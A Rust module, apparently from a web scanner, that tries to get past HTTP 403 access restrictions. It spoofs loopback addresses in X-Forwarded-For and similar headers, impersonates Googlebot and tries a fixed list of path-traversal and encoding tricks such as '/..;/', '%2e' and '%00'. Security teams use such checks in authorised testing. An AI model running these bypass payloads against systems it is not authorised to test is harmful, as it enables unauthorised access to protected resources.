use serde::{Deserialize, Serialize};
use std::time::Duration;
use tokio_util::sync::CancellationToken;
use url::Url;

use crate::error::ProbeError;
use crate::http_client::RedirectMode;
use crate::probe::http_probe::{ProbeClient, ProbeRequest};

const LOOPBACK: &str = "127.0.0.1";
const GOOGLEBOT_UA: &str = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";

/// Single-header mutations, tried in declaration order.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum HeaderBypass {
    // IP spoofing
    ForwardedFor,
    RealIp,
    OriginatingIp,
    ForwardedHost,
    RemoteIp,
    RemoteAddr,
    ClusterClientIp,
    ProxyUserIp,
    CfConnectingIp,
    // Protocol / rewrite
    OriginalUrl,
    RewriteUrl,
    ForwardedProto,
    // Crawler impersonation
    GooglebotShort,
    GooglebotFull,
    // Same-origin
    Referer,
    Origin,
}

impl HeaderBypass {
    pub const ALL: [HeaderBypass; 16] = [
        HeaderBypass::ForwardedFor,
        HeaderBypass::RealIp,
        HeaderBypass::OriginatingIp,
        HeaderBypass::ForwardedHost,
        HeaderBypass::RemoteIp,
        HeaderBypass::RemoteAddr,
        HeaderBypass::ClusterClientIp,
        HeaderBypass::ProxyUserIp,
        HeaderBypass::CfConnectingIp,
        HeaderBypass::OriginalUrl,
        HeaderBypass::RewriteUrl,
        HeaderBypass::ForwardedProto,
        HeaderBypass::GooglebotShort,
        HeaderBypass::GooglebotFull,
        HeaderBypass::Referer,
        HeaderBypass::Origin,
    ];

    /// Header name and value for a request against `target`.
    pub fn header(self, target: &Url) -> (&'static str, String) {
        let own_origin = || format!("https://{}", authority(target));
        match self {
            HeaderBypass::ForwardedFor => ("X-Forwarded-For", LOOPBACK.into()),
            HeaderBypass::RealIp => ("X-Real-IP", LOOPBACK.into()),
            HeaderBypass::OriginatingIp => ("X-Originating-IP", LOOPBACK.into()),
            HeaderBypass::ForwardedHost => ("X-Forwarded-Host", LOOPBACK.into()),
            HeaderBypass::RemoteIp => ("X-Remote-IP", LOOPBACK.into()),
            HeaderBypass::RemoteAddr => ("X-Remote-Addr", LOOPBACK.into()),
            HeaderBypass::ClusterClientIp => ("X-Cluster-Client-IP", LOOPBACK.into()),
            HeaderBypass::ProxyUserIp => ("X-ProxyUser-Ip", LOOPBACK.into()),
            HeaderBypass::CfConnectingIp => ("CF-Connecting-IP", LOOPBACK.into()),
            HeaderBypass::OriginalUrl => ("X-Original-URL", target.path().to_string()),
            HeaderBypass::RewriteUrl => ("X-Rewrite-URL", target.path().to_string()),
            HeaderBypass::ForwardedProto => ("X-Forwarded-Proto", "http".into()),
            HeaderBypass::GooglebotShort => ("User-Agent", "GoogleBot".into()),
            HeaderBypass::GooglebotFull => ("User-Agent", GOOGLEBOT_UA.into()),
            HeaderBypass::Referer => ("Referer", own_origin()),
            HeaderBypass::Origin => ("Origin", own_origin()),
        }
    }
}

/// Path mutations placed between the origin and the original path.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum PathBypass {
    Query,
    SemicolonTraversal,
    Traversal,
    Semicolon,
    EncodedDot,
    DoubleEncodedDot,
    EncodedDotDot,
    DoubleEncodedDotDot,
    EncodedSlashTraversal,
    DoubleEncodedSlashTraversal,
    CurrentDir,
    CurrentDirDoubleSlash,
    TripleSlash,
    DoubleSlash,
    MixedTraversal,
    TraversalDoubleSlash,
    Space,
    Tab,
    LineFeed,
    CarriageReturn,
    NullByte,
    HighByte,
}

impl PathBypass {
    pub const ALL: [PathBypass; 22] = [
        PathBypass::Query,
        PathBypass::SemicolonTraversal,
        PathBypass::Traversal,
        PathBypass::Semicolon,
        PathBypass::EncodedDot,
        PathBypass::DoubleEncodedDot,
        PathBypass::EncodedDotDot,
        PathBypass::DoubleEncodedDotDot,
        PathBypass::EncodedSlashTraversal,
        PathBypass::DoubleEncodedSlashTraversal,
        PathBypass::CurrentDir,
        PathBypass::CurrentDirDoubleSlash,
        PathBypass::TripleSlash,
        PathBypass::DoubleSlash,
        PathBypass::MixedTraversal,
        PathBypass::TraversalDoubleSlash,
        PathBypass::Space,
        PathBypass::Tab,
        PathBypass::LineFeed,
        PathBypass::CarriageReturn,
        PathBypass::NullByte,
        PathBypass::HighByte,
    ];

    pub fn prefix(self) -> &'static str {
        match self {
            PathBypass::Query => "/?",
            PathBypass::SemicolonTraversal => "/..;/",
            PathBypass::Traversal => "/../",
            PathBypass::Semicolon => "/;/",
            PathBypass::EncodedDot => "/%2e/",
            PathBypass::DoubleEncodedDot => "/%252e/",
            PathBypass::EncodedDotDot => "/%2e%2e/",
            PathBypass::DoubleEncodedDotDot => "/%252e%252e/",
            PathBypass::EncodedSlashTraversal => "/..%2f",
            PathBypass::DoubleEncodedSlashTraversal => "/..%252f",
            PathBypass::CurrentDir => "/./",
            PathBypass::CurrentDirDoubleSlash => "/.//",
            PathBypass::TripleSlash => "///",
            PathBypass::DoubleSlash => "//",
            PathBypass::MixedTraversal => "/.//../",
            PathBypass::TraversalDoubleSlash => "/..//",
            PathBypass::Space => "/%20",
            PathBypass::Tab => "/%09",
            PathBypass::LineFeed => "/%0a",
            PathBypass::CarriageReturn => "/%0d",
            PathBypass::NullByte => "/%00",
            PathBypass::HighByte => "/%ff",
        }
    }

    /// `scheme://authority` + prefix + original path without its leading slash.
    pub fn apply(self, target: &Url) -> String {
        format!(
            "{}://{}{}{}",
            target.scheme(),
            authority(target),
            self.prefix(),
            target.path().trim_start_matches('/')
        )
    }
}

/// A closed set of 403 bypass techniques.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum BypassTechnique {
    Header(HeaderBypass),
    Path(PathBypass),
}

impl BypassTechnique {
    pub fn describe(&self, target: &Url) -> String {
        match self {
            BypassTechnique::Header(h) => {
                let (name, value) = h.header(target);
                format!("Header bypass: {}: {}", name, value)
            }
            BypassTechnique::Path(p) => format!("Path bypass: {}", p.prefix()),
        }
    }
}

/// Tries header then path mutations against a forbidden URL.
#[derive(Debug, Clone)]
pub struct BypassStrategy {
    client: ProbeClient,
    timeout: Duration,
    cancel: CancellationToken,
}

impl BypassStrategy {
    pub fn new(client: ProbeClient, timeout: Duration, cancel: CancellationToken) -> Self {
        Self { client, timeout, cancel }
    }

    /// Upper bound of requests a single `attempt` issues.
    pub const MAX_PROBES: usize = HeaderBypass::ALL.len() + PathBypass::ALL.len();

    /// Returns descriptions of the techniques that got a 200, at most one per family.
    ///
    /// Only a 403 is worth bypassing; any other status returns empty without a request.
    /// Cancellation stops before the next request and returns what was found so far.
    pub async fn attempt(&self, url: &str, original_status: u16) -> Result<Vec<String>, ProbeError> {
        if original_status != 403 {
            return Ok(Vec::new());
        }
        let target = Url::parse(url).map_err(|e| ProbeError::InvalidUrl {
            url: url.to_string(),
            reason: e.to_string(),
        })?;

        let mut methods = Vec::new();

        for h in HeaderBypass::ALL {
            if self.cancel.is_cancelled() {
                return Ok(methods);
            }
            let header = [h.header(&target)];
            let req = ProbeRequest::new(self.timeout, RedirectMode::Manual).with_headers(&header);
            if self.succeeds(url, &req).await? {
                methods.push(BypassTechnique::Header(h).describe(&target));
                break;
            }
        }

        let req = ProbeRequest::new(self.timeout, RedirectMode::Manual);
        for p in PathBypass::ALL {
            if self.cancel.is_cancelled() {
                return Ok(methods);
            }
            let mutated = p.apply(&target);
            if self.succeeds(&mutated, &req).await? {
                methods.push(BypassTechnique::Path(p).describe(&target));
                break;
            }
        }

        if !methods.is_empty() {
            tracing::info!(url, methods = ?methods, "403 bypassed");
        }
        Ok(methods)
    }

    async fn succeeds(&self, url: &str, req: &ProbeRequest<'_>) -> Result<bool, ProbeError> {
        match self.client.probe(url, req).await {
            Ok(res) => Ok(res.status == 200),
            Err(e) if e.is_transient() => Ok(false),
            Err(e) => Err(e),
        }
    }
}

fn authority(url: &Url) -> String {
    match (url.host_str(), url.port()) {
        (Some(host), Some(port)) => format!("{}:{}", host, port),
        (Some(host), None) => host.to_string(),
        (None, _) => String::new(),
    }
}
